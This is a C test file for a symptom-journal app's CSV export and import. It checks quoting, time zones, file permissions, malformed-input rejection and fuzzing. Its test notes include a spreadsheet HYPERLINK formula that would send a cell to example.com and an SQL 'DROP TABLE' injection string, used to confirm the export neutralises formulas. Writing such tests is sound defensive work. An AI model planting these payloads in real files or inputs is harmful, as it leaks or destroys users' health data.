/* test-journal-csv.c: exports a doctor can open and a new machine can import
 *
 * Copyright 2026 The Sitwell authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>
#include <sys/stat.h>

#include <glib/gstdio.h>

#include "sw-fake-clock.h"
#include "sw-journal-csv.h"

#define UUID_A "0b6f7c52-6a4e-4f5e-9a8e-1f2b3c4d5e6f"
#define UUID_B "7d0e2a4c-3b1f-4c8d-a2e6-9f8e7d6c5b4a"
#define UUID_C "c3a1e9f0-5d2b-4e7a-8c6f-0a1b2c3d4e5f"
#define HEADER SW_JOURNAL_CSV_HEADER "\r\n"

static SwJournal *
open_journal_at (SwFakeClock *clock,
                 const char  *name)
{
  g_autofree char *path = g_build_filename (g_get_user_data_dir (), name, "journal.db", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;
  SwJournal *journal;

  journal = sw_journal_open (file, SW_CLOCK (clock), &error);
  g_assert_no_error (error);

  return journal;
}

static SwSymptomEntry *
make_entry (const char    *uuid,
            gint64         created_us,
            gint64         modified_us,
            SwBodyArea     area,
            SwSide         side,
            int            pain,
            SwSymptomKind  kinds,
            SwTrigger      triggers,
            const char    *note)
{
  SwSymptomEntry *entry = sw_symptom_entry_new ();

  sw_symptom_entry_set_uuid (entry, uuid);
  sw_symptom_entry_set_created (entry, created_us);
  sw_symptom_entry_set_modified (entry, modified_us);
  sw_symptom_entry_set_body_area (entry, area);
  sw_symptom_entry_set_side (entry, side);
  sw_symptom_entry_set_pain (entry, pain);
  sw_symptom_entry_set_kinds (entry, kinds);
  sw_symptom_entry_set_triggers (entry, triggers);
  sw_symptom_entry_set_note (entry, note);

  return entry;
}

static guint
count_entries (SwJournal *journal)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) all = sw_journal_list_all_entries (journal, &error);

  g_assert_no_error (error);
  return all->len;
}

/* Notes a spreadsheet would run, or a naive parser would split. */
static const char * const tricky_notes[] = {
  "",
  "plain",
  "=HYPERLINK(\"http://example.com/x?\"&A1,\"click\")",
  "+44 20 7946 0000",
  "-5 after stretching",
  "@SUM(A1:A9)",
  "\tstarts with a tab",
  "\rstarts with CR",
  "'starts with an apostrophe",
  "''two apostrophes",
  "'",
  "'=already guarded by hand",
  "a, b, and \"c\"",
  "line one\r\nline two\nline three\rline four",
  "\n",
  "\"",
  "trailing comma,",
  "  spaces kept  ",
  "ألم في ربلة الساق — כאב 🦵 按摩小腿肚疼",
  "'); DROP TABLE symptom_entries;--",
};

static GPtrArray *
tricky_entries (gint64 base_us)
{
  GPtrArray *entries = g_ptr_array_new_with_free_func (g_object_unref);

  for (guint i = 0; i < G_N_ELEMENTS (tricky_notes); i++)
    {
      g_autofree char *uuid = g_uuid_string_random ();
      gint64 created = base_us + i * G_TIME_SPAN_HOUR * 13 + (i % 3 == 0 ? 0 : i * 123457);
      gint64 modified = i % 2 == 0 ? 0 : created + G_TIME_SPAN_MINUTE * i + 1;

      g_ptr_array_add (entries, make_entry (uuid, created, modified,
                                            (SwBodyArea) (i % SW_N_BODY_AREAS),
                                            (SwSide) (i % SW_N_SIDES),
                                            (int) (i % 11),
                                            (SwSymptomKind) (i * 7 % 64),
                                            (SwTrigger) (i * 11 % 64),
                                            tricky_notes[i]));
    }

  return entries;
}

static void
assert_same_entries (GPtrArray *a,
                     GPtrArray *b)
{
  g_assert_cmpuint (a->len, ==, b->len);
  for (guint i = 0; i < a->len; i++)
    {
      if (!sw_symptom_entry_equal (a->pdata[i], b->pdata[i]))
        g_error ("entry %u differs: “%s” vs “%s”", i,
                 sw_symptom_entry_get_note (a->pdata[i]),
                 sw_symptom_entry_get_note (b->pdata[i]));
    }
}

static void
round_trip_in_zone (const char *zone)
{
  g_autoptr(SwFakeClock) clock = NULL;
  g_autoptr(SwJournal) source = NULL;
  g_autoptr(SwJournal) target = NULL;
  g_autoptr(GPtrArray) entries = NULL;
  g_autoptr(GPtrArray) exported = NULL;
  g_autoptr(GPtrArray) imported = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GFile) csv = NULL;
  g_autofree char *csv_path = NULL;
  g_autofree char *source_dir = g_strdup_printf ("source-%s", zone);
  g_autofree char *target_dir = g_strdup_printf ("target-%s", zone);
  g_autofree char *csv_name = g_strdup_printf ("export-%s.csv", zone);
  guint n_imported = 0, n_skipped = 0;
  struct stat st;

  for (char *p = source_dir; *p; p++)
    if (*p == '/')
      *p = '_';
  for (char *p = target_dir; *p; p++)
    if (*p == '/')
      *p = '_';
  for (char *p = csv_name; *p; p++)
    if (*p == '/')
      *p = '_';

  g_setenv ("TZ", zone, TRUE);
  clock = sw_fake_clock_new_local (2026, 3, 10, 12, 0);
  source = open_journal_at (clock, source_dir);
  target = open_journal_at (clock, target_dir);

  /* Across a daylight-saving change in zones that have one. */
  entries = tricky_entries (sw_clock_get_real_us (SW_CLOCK (clock)) - 10 * G_TIME_SPAN_DAY);
  g_assert_true (sw_journal_import_entries (source, entries, &n_imported, &n_skipped, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n_imported, ==, entries->len);

  csv_path = g_build_filename (g_get_user_data_dir (), csv_name, NULL);
  csv = g_file_new_for_path (csv_path);
  g_assert_true (sw_journal_csv_export (source, csv, NULL, &error));
  g_assert_no_error (error);
  /* Health data: readable by the user only. */
  g_assert_cmpint (g_stat (csv_path, &st), ==, 0);
  g_assert_cmpuint (st.st_mode & 0777, ==, 0600);

  g_assert_true (sw_journal_csv_import (target, csv, &n_imported, &n_skipped, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n_imported, ==, entries->len);
  g_assert_cmpuint (n_skipped, ==, 0);

  exported = sw_journal_list_all_entries (source, &error);
  g_assert_no_error (error);
  imported = sw_journal_list_all_entries (target, &error);
  g_assert_no_error (error);
  assert_same_entries (exported, imported);

  /* Importing again adds nothing: a merge, skipping what is there. */
  g_assert_true (sw_journal_csv_import (target, csv, &n_imported, &n_skipped, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n_imported, ==, 0);
  g_assert_cmpuint (n_skipped, ==, entries->len);
  g_assert_cmpuint (count_entries (target), ==, entries->len);

  g_setenv ("TZ", "UTC", TRUE);
}

static void
test_round_trip (void)
{
  round_trip_in_zone ("UTC");
  round_trip_in_zone ("America/New_York");
  round_trip_in_zone ("Asia/Kolkata");
}

static void
test_format_quotes_and_times (void)
{
  g_autoptr(GPtrArray) entries = g_ptr_array_new_with_free_func (g_object_unref);
  g_autofree char *csv = NULL;
  gsize length;
  /* 2026-03-10T12:00:00Z */
  gint64 noon = G_GINT64_CONSTANT (1773144000) * G_USEC_PER_SEC;

  g_ptr_array_add (entries, make_entry (UUID_A, noon, 0, SW_BODY_AREA_CALF, SW_SIDE_LEFT, 5,
                                        SW_SYMPTOM_KIND_RADIATING | SW_SYMPTOM_KIND_ACHE,
                                        SW_TRIGGER_SITTING,
                                        "He said \"ouch\", then =1+1"));
  g_ptr_array_add (entries, make_entry (UUID_B, noon + 250000, noon + G_TIME_SPAN_HOUR,
                                        SW_BODY_AREA_LOWER_BACK, SW_SIDE_BOTH, 0, 0, 0,
                                        "=1+1"));
  g_ptr_array_add (entries, make_entry (UUID_C, noon, 0, SW_BODY_AREA_FOOT, SW_SIDE_RIGHT, 10,
                                        SW_SYMPTOM_KIND_ALL, SW_TRIGGER_ALL, "-a\nb"));

  csv = sw_journal_csv_format (entries, &length);
  g_assert_cmpuint (length, ==, strlen (csv));
  g_assert_cmpstr (csv, ==,
    "\xef\xbb\xbf" HEADER
    UUID_A ",2026-03-10T12:00:00+00:00,,calf,left,5,ache;radiating,sitting,"
      "\"He said \"\"ouch\"\", then =1+1\"\r\n"
    UUID_B ",2026-03-10T12:00:00.250000+00:00,2026-03-10T13:00:00+00:00,lower_back,both,0,,,"
      "'=1+1\r\n"
    UUID_C ",2026-03-10T12:00:00+00:00,,foot,right,10,"
      "ache;stabbing;radiating;numbness;tingling;weakness,"
      "massage;sitting;standing;walking;lifting;exercise,\"'-a\nb\"\r\n");

  /* In another zone the times carry that zone's offset. */
  g_setenv ("TZ", "Asia/Shanghai", TRUE);
  g_clear_pointer (&csv, g_free);
  csv = sw_journal_csv_format (entries, NULL);
  g_assert_nonnull (strstr (csv, UUID_A ",2026-03-10T20:00:00+08:00,"));
  g_setenv ("TZ", "UTC", TRUE);
}

/* The Journal tab says how many entries a file holds. */
static void
test_export_counts_entries (void)
{
  g_autoptr(SwFakeClock) clock = sw_fake_clock_new_local (2026, 3, 10, 12, 0);
  g_autoptr(SwJournal) journal = open_journal_at (clock, "export-count");
  g_autofree char *path = g_build_filename (g_get_user_data_dir (), "count.csv", NULL);
  g_autofree char *missing = g_build_filename (g_get_user_data_dir (), "no-such-folder",
                                               "count.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GFile) unwritable = g_file_new_for_path (missing);
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  gint64 now = sw_clock_get_real_us (SW_CLOCK (clock));
  guint n_exported = 99;

  g_assert_true (sw_journal_csv_export_full (journal, file, &n_exported, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n_exported, ==, 0);

  for (guint i = 0; i < 3; i++)
    {
      g_autoptr(SwSymptomEntry) entry = make_entry (NULL, now - i * G_TIME_SPAN_HOUR, 0,
                                                    SW_BODY_AREA_CALF, SW_SIDE_LEFT, (int) i,
                                                    0, 0, "");

      g_assert_true (sw_journal_add_entry (journal, entry, &error));
      g_assert_no_error (error);
    }

  g_assert_true (sw_journal_csv_export_full (journal, file, &n_exported, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n_exported, ==, 3);
  g_assert_true (g_file_get_contents (path, &contents, NULL, &error));
  g_assert_no_error (error);
  g_assert_nonnull (strstr (contents, HEADER));
  {
    g_auto(GStrv) lines = g_strsplit (contents, "\r\n", -1);

    /* The header, three entries, and the empty rest after the last CRLF. */
    g_assert_cmpuint (g_strv_length (lines), ==, 5);
  }

  /* A failed write says why and counts nothing. */
  n_exported = 99;
  g_assert_false (sw_journal_csv_export_full (journal, unwritable, &n_exported, NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  g_assert_cmpuint (n_exported, ==, 99);
}

/* RFC 4180 cells as written, quotes undone but nothing else. */
static GPtrArray *
split_cells (const char *csv)
{
  GPtrArray *cells = g_ptr_array_new_with_free_func (g_free);
  GString *cell = g_string_new (NULL);
  const char *p = csv;

  while (*p != '\0')
    {
      if (*p == '"')
        {
          for (p++; !(*p == '"' && p[1] != '"'); p++)
            {
              g_assert_cmpint (*p, !=, '\0');
              if (*p == '"')
                p++;
              g_string_append_c (cell, *p);
            }
          p++;
        }
      while (*p != ',' && *p != '\r' && *p != '\n' && *p != '\0')
        g_string_append_c (cell, *p++);

      g_ptr_array_add (cells, g_strdup (cell->str));
      g_string_truncate (cell, 0);

      if (*p == ',')
        p++;
      else if (*p == '\r' && p[1] == '\n')
        p += 2;
      else
        g_assert_cmpint (*p, ==, '\0');
    }

  g_string_free (cell, TRUE);
  return cells;
}

/* No cell may start a formula once a spreadsheet reads it. */
static void
test_neutralises_formulas (void)
{
  g_autoptr(GPtrArray) entries = tricky_entries (G_GINT64_CONSTANT (1773144000000000));
  g_autoptr(GPtrArray) parsed = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *csv = sw_journal_csv_format (entries, NULL);
  g_autoptr(GPtrArray) cells = NULL;
  guint n_guarded = 0;

  /* Read the cells as a spreadsheet would, guards included: none may
   * start a formula. */
  cells = split_cells (csv + 3);
  g_assert_cmpuint (cells->len, ==, (entries->len + 1) * 9);
  for (guint i = 0; i < cells->len; i++)
    {
      const char *cell = cells->pdata[i];

      if (cell[0] != '\0' && strchr ("=+-@\t\r", cell[0]) != NULL)
        g_error ("a cell starts a formula: %s", cell);
      if (cell[0] == '\'')
        n_guarded++;
    }
  /* = + - @ TAB CR, and the five notes that start with an apostrophe. */
  g_assert_cmpuint (n_guarded, ==, 11);

  /* Import takes off exactly what export put on. */
  g_assert_true (sw_journal_csv_parse (csv, strlen (csv), &parsed, &error));
  g_assert_no_error (error);
  assert_same_entries (entries, parsed);

  /* An apostrophe someone typed before plain text is theirs: it stays. */
  {
    const char *data = HEADER UUID_A ",2026-03-10T12:00:00Z,,calf,left,1,,,'hello\r\n"
                       UUID_B ",2026-03-10T12:00:00Z,,calf,left,1,,,'=SUM(A1)\r\n";

    g_clear_pointer (&parsed, g_ptr_array_unref);
    g_assert_true (sw_journal_csv_parse (data, strlen (data), &parsed, &error));
    g_assert_no_error (error);
    g_assert_cmpstr (sw_symptom_entry_get_note (parsed->pdata[0]), ==, "'hello");
    g_assert_cmpstr (sw_symptom_entry_get_note (parsed->pdata[1]), ==, "=SUM(A1)");
  }
}

static void
test_accepts_variants (void)
{
  g_autoptr(GPtrArray) entries = NULL;
  g_autoptr(GError) error = NULL;
  const char *data =
    SW_JOURNAL_CSV_HEADER "\n"
    UUID_A ",2026-03-10 20:00:00.5+0800,2026-03-10T12:00:01Z,thigh,right,3,tingling;ache,"
      "walking,\"two\r\nlines, \"\"quoted\"\"\"\n"
    "\n"
    UUID_B ",2026-03-10T07:00:00-05:00,,buttock,both,0,,,last line without a newline";

  g_assert_true (sw_journal_csv_parse (data, strlen (data), &entries, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (entries->len, ==, 2);

  g_assert_cmpint (sw_symptom_entry_get_created (entries->pdata[0]), ==,
                   G_GINT64_CONSTANT (1773144000500000));
  g_assert_cmpint (sw_symptom_entry_get_modified (entries->pdata[0]), ==,
                   G_GINT64_CONSTANT (1773144001000000));
  g_assert_cmpint (sw_symptom_entry_get_body_area (entries->pdata[0]), ==, SW_BODY_AREA_THIGH);
  g_assert_cmpuint (sw_symptom_entry_get_kinds (entries->pdata[0]), ==,
                    SW_SYMPTOM_KIND_TINGLING | SW_SYMPTOM_KIND_ACHE);
  g_assert_cmpuint (sw_symptom_entry_get_triggers (entries->pdata[0]), ==, SW_TRIGGER_WALKING);
  g_assert_cmpstr (sw_symptom_entry_get_note (entries->pdata[0]), ==,
                   "two\r\nlines, \"quoted\"");
  g_assert_cmpint (sw_symptom_entry_get_id (entries->pdata[0]), ==, 0);

  g_assert_cmpint (sw_symptom_entry_get_created (entries->pdata[1]), ==,
                   G_GINT64_CONSTANT (1773144000000000));
  g_assert_cmpint (sw_symptom_entry_get_modified (entries->pdata[1]), ==, 0);
  g_assert_cmpstr (sw_symptom_entry_get_note (entries->pdata[1]), ==,
                   "last line without a newline");
  g_clear_pointer (&entries, g_ptr_array_unref);

  /* Only a header: no entries, no error. */
  g_assert_true (sw_journal_csv_parse (HEADER, strlen (HEADER), &entries, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (entries->len, ==, 0);
}

#define GOOD(uuid) uuid ",2026-03-10T12:00:00+00:00,,calf,left,5,ache,sitting,ok\r\n"

typedef struct
{
  const char *what;
  const char *data;
  gsize       length;  /* 0: strlen */
  guint       line;
  int         code;
} BadCase;

static void
test_rejects_malformed_naming_the_line (void)
{
  g_autofree char *long_note = NULL;
  g_autofree char *too_long = NULL;
  g_autoptr(SwFakeClock) clock = sw_fake_clock_new_local (2026, 3, 10, 12, 0);
  g_autoptr(SwJournal) journal = open_journal_at (clock, "malformed");
  g_autoptr(GString) buffer = g_string_new (NULL);
  static const char with_nul[] = HEADER GOOD (UUID_A) UUID_B ",2026-03-10T12:00:00Z,,calf,"
                                 "left,1,,,a\0b\r\n";

  for (guint i = 0; i < 2001; i++)
    g_string_append (buffer, "字");
  long_note = g_strdup (buffer->str);
  too_long = g_strdup_printf (HEADER UUID_A ",2026-03-10T12:00:00Z,,calf,left,1,,,%s\r\n",
                              long_note);

  {
    const BadCase cases[] = {
      { "wrong field count", HEADER GOOD (UUID_A) "x,y\r\n", 0, 3,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "pain above 10", HEADER GOOD (UUID_A)
        UUID_B ",2026-03-10T12:00:00Z,,calf,left,11,,,\r\n", 0, 3,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "pain not a number", HEADER UUID_B ",2026-03-10T12:00:00Z,,calf,left,five,,,\r\n", 0, 2,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "impossible date", HEADER UUID_B ",2026-02-30T12:00:00Z,,calf,left,1,,,\r\n", 0, 2,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "date without offset", HEADER UUID_B ",2026-03-10T12:00:00,,calf,left,1,,,\r\n", 0, 2,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "bad modified", HEADER UUID_B ",2026-03-10T12:00:00Z,yesterday,calf,left,1,,,\r\n", 0, 2,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "unclosed quote", HEADER GOOD (UUID_A)
        UUID_B ",2026-03-10T12:00:00Z,,calf,left,1,,,\"never closed\r\nmore\r\n", 0, 3,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "quote inside a bare field", HEADER
        UUID_B ",2026-03-10T12:00:00Z,,calf,left,1,,,ab\"c\r\n", 0, 2,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "text after a closing quote", HEADER
        UUID_B ",2026-03-10T12:00:00Z,,calf,left,1,,,\"abc\"d\r\n", 0, 2,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "line count after a two-line note", HEADER GOOD (UUID_A)
        UUID_B ",2026-03-10T12:00:00Z,,calf,left,1,,,\"two\r\nlines\"\r\n"
        UUID_C ",2026-03-10T12:00:00Z,,knee,left,1,,,\r\n", 0, 5,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "unknown side", HEADER UUID_B ",2026-03-10T12:00:00Z,,calf,middle,1,,,\r\n", 0, 2,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "unknown kind", HEADER UUID_B ",2026-03-10T12:00:00Z,,calf,left,1,burning,,\r\n", 0, 2,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "unknown trigger", HEADER UUID_B ",2026-03-10T12:00:00Z,,calf,left,1,,typing,\r\n", 0, 2,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "bad uuid", HEADER "not-a-uuid,2026-03-10T12:00:00Z,,calf,left,1,,,\r\n", 0, 2,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "same uuid twice", HEADER GOOD (UUID_A) GOOD (UUID_B) GOOD (UUID_A), 0, 4,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "not UTF-8", HEADER GOOD (UUID_A)
        UUID_B ",2026-03-10T12:00:00Z,,calf,left,1,,,\xff\xfe\r\n", 0, 3,
        SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "NUL byte", with_nul, sizeof with_nul - 1, 3, SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "note of 2001 characters", too_long, 0, 2, SW_JOURNAL_CSV_ERROR_MALFORMED },
      { "another program's CSV", "id,name\r\n1,x\r\n", 0, 1, SW_JOURNAL_CSV_ERROR_NOT_JOURNAL },
      { "empty file", "", 0, 1, SW_JOURNAL_CSV_ERROR_NOT_JOURNAL },
    };

    /* One entry is already there; a failed import must leave just it. */
    {
      const char *one = HEADER GOOD (UUID_C);
      g_autoptr(GError) error = NULL;

      g_assert_true (sw_journal_csv_import_data (journal, one, strlen (one), NULL, NULL, &error));
      g_assert_no_error (error);
    }

    for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
      {
        g_autoptr(GPtrArray) entries = NULL;
        g_autoptr(GError) error = NULL;
        g_autofree char *prefix = g_strdup_printf ("Line %u: ", cases[i].line);
        gsize length = cases[i].length ? cases[i].length : strlen (cases[i].data);
        guint n_imported = 99;

        g_test_message ("case: %s", cases[i].what);

        g_assert_false (sw_journal_csv_parse (cases[i].data, length, &entries, &error));
        g_assert_null (entries);
        g_assert_error (error, SW_JOURNAL_CSV_ERROR, cases[i].code);
        if (!g_str_has_prefix (error->message, prefix))
          g_error ("%s: expected “%s…”, got “%s”", cases[i].what, prefix, error->message);
        g_clear_error (&error);

        g_assert_false (sw_journal_csv_import_data (journal, cases[i].data, length,
                                                    &n_imported, NULL, &error));
        g_assert_error (error, SW_JOURNAL_CSV_ERROR, cases[i].code);
        g_assert_cmpuint (n_imported, ==, 99);
        g_assert_cmpuint (count_entries (journal), ==, 1);
      }
  }
}

static void
test_import_into_read_only_journal (void)
{
  g_autoptr(SwFakeClock) clock = sw_fake_clock_new_local (2026, 3, 10, 12, 0);
  g_autofree char *path = g_build_filename (g_get_user_data_dir (), "ro", "journal.db", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(SwJournal) journal = NULL;
  g_autoptr(GError) error = NULL;
  const char *data = HEADER GOOD (UUID_A);

  journal = open_journal_at (clock, "ro");
  g_clear_object (&journal);

  journal = sw_journal_open_full (file, SW_CLOCK (clock), SW_JOURNAL_OPEN_READ_ONLY, &error);
  g_assert_no_error (error);
  g_assert_false (sw_journal_csv_import_data (journal, data, strlen (data), NULL, NULL, &error));
  g_assert_error (error, SW_JOURNAL_ERROR, SW_JOURNAL_ERROR_READ_ONLY);
  g_assert_cmpuint (count_entries (journal), ==, 0);
}

/* Found by tests/fuzz/fuzz-csv: when the data ended right after a
 * comma (an empty last note, the final line break stripped by an editor),
 * the parser read one byte past the end. The bytes sit in a buffer of
 * exactly their size so AddressSanitizer sees any read beyond it. */
static void
test_parse_ends_after_comma (void)
{
  static const char empty_last_note[] = HEADER UUID_A ",2026-03-10T12:00:00Z,,calf,left,1,,,";
  static const char extra_field[] = HEADER UUID_A ",2026-03-10T12:00:00Z,,calf,left,1,,,x,";
  static const char header_comma[] = SW_JOURNAL_CSV_HEADER ",";
  gsize length = sizeof empty_last_note - 1;
  g_autofree char *exact = g_memdup2 (empty_last_note, length);
  g_autoptr(GPtrArray) entries = NULL;
  g_autoptr(GError) error = NULL;

  g_assert_true (sw_journal_csv_parse (exact, length, &entries, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (entries->len, ==, 1);
  g_assert_cmpstr (sw_symptom_entry_get_note (entries->pdata[0]), ==, "");
  g_assert_cmpint (sw_symptom_entry_get_triggers (entries->pdata[0]), ==, SW_TRIGGER_NONE);
  g_clear_pointer (&entries, g_ptr_array_unref);
  g_clear_pointer (&exact, g_free);

  length = sizeof extra_field - 1;
  exact = g_memdup2 (extra_field, length);
  g_assert_false (sw_journal_csv_parse (exact, length, &entries, &error));
  g_assert_error (error, SW_JOURNAL_CSV_ERROR, SW_JOURNAL_CSV_ERROR_MALFORMED);
  g_assert_true (g_str_has_prefix (error->message, "Line 2: "));
  g_assert_nonnull (strstr (error->message, "10"));
  g_clear_error (&error);
  g_clear_pointer (&exact, g_free);

  length = sizeof header_comma - 1;
  exact = g_memdup2 (header_comma, length);
  g_assert_false (sw_journal_csv_parse (exact, length, &entries, &error));
  g_assert_error (error, SW_JOURNAL_CSV_ERROR, SW_JOURNAL_CSV_ERROR_NOT_JOURNAL);
  g_assert_null (entries);
}

/* A small fuzzer: the parser must never crash, and whatever it accepts
 * must be valid entries. libFuzzer will push further. */
static void
test_parse_survives_garbage (void)
{
  g_autoptr(GRand) rand = g_rand_new_with_seed (g_test_rand_int ());
  g_autoptr(GPtrArray) seed_entries = tricky_entries (G_GINT64_CONSTANT (1773144000000000));
  gsize seed_length;
  g_autofree char *seed = sw_journal_csv_format (seed_entries, &seed_length);
  static const char alphabet[] = "\",\r\n';=\xff\xc3\xa9" "0123456789-:TZ+";

  for (guint round = 0; round < 4000; round++)
    {
      g_autofree char *data = g_memdup2 (seed, seed_length);
      gsize length = seed_length;
      guint n_mutations = g_rand_int_range (rand, 1, 8);
      g_autoptr(GPtrArray) entries = NULL;
      g_autoptr(GError) error = NULL;

      for (guint m = 0; m < n_mutations; m++)
        {
          gsize at = (gsize) g_rand_int_range (rand, 0, (gint32) length);

          switch (g_rand_int_range (rand, 0, 4))
            {
            case 0:
              data[at] = (char) g_rand_int_range (rand, 0, 256);
              break;
            case 1:
              data[at] = alphabet[g_rand_int_range (rand, 0, sizeof alphabet - 1)];
              break;
            case 2:
              length = at;
              break;
            default:
              memmove (data + at, data + at + 1, length - at - 1);
              length--;
              break;
            }
          if (length == 0)
            break;
        }

      if (sw_journal_csv_parse (data, length, &entries, &error))
        {
          g_assert_no_error (error);
          for (guint i = 0; i < entries->len; i++)
            g_assert_true (sw_symptom_entry_validate (entries->pdata[i], NULL));
        }
      else
        {
          g_assert_nonnull (error);
          g_assert_null (entries);
          g_assert_true (g_str_has_prefix (error->message, "Line "));
        }
    }

  /* Pure noise too. */
  for (guint round = 0; round < 500; round++)
    {
      guint8 noise[256];
      g_autoptr(GPtrArray) entries = NULL;
      gsize length = (gsize) g_rand_int_range (rand, 0, sizeof noise);

      for (gsize i = 0; i < length; i++)
        noise[i] = (guint8) g_rand_int_range (rand, 0, 256);
      g_assert_false (sw_journal_csv_parse ((const char *) noise, length, &entries, NULL));
    }
}

int
main (int   argc,
      char *argv[])
{
  g_setenv ("TZ", "UTC", TRUE);
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/sitwell/core/journal-csv/round-trip-is-exact", test_round_trip);
  g_test_add_func ("/sitwell/core/journal-csv/format-quotes-and-times",
                   test_format_quotes_and_times);
  g_test_add_func ("/sitwell/core/journal-csv/neutralises-formulas", test_neutralises_formulas);
  g_test_add_func ("/sitwell/core/journal-csv/export-counts-entries", test_export_counts_entries);
  g_test_add_func ("/sitwell/core/journal-csv/accepts-variants", test_accepts_variants);
  g_test_add_func ("/sitwell/core/journal-csv/rejects-malformed-naming-the-line",
                   test_rejects_malformed_naming_the_line);
  g_test_add_func ("/sitwell/core/journal-csv/import-into-read-only-journal",
                   test_import_into_read_only_journal);
  g_test_add_func ("/sitwell/core/journal-csv/parse-ends-after-comma",
                   test_parse_ends_after_comma);
  g_test_add_func ("/sitwell/core/journal-csv/parse-survives-garbage",
                   test_parse_survives_garbage);

  return g_test_run ();
}
